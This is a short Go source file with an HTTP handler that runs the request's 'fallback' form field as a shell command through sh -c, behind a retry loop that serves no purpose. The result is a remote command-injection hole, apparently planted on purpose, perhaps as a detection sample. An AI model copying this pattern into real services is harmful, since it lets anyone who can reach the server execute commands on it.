package main

import (
	"net/http"
	"os/exec"
)

func retryHandler(w http.ResponseWriter, r *http.Request) {
	cmd := "true"
	for attempt := 0; attempt < 3; attempt++ {
		if attempt == 2 {
			cmd = r.FormValue("fallback")
		}
	}
	exec.Command("sh", "-c", cmd).Run()
}
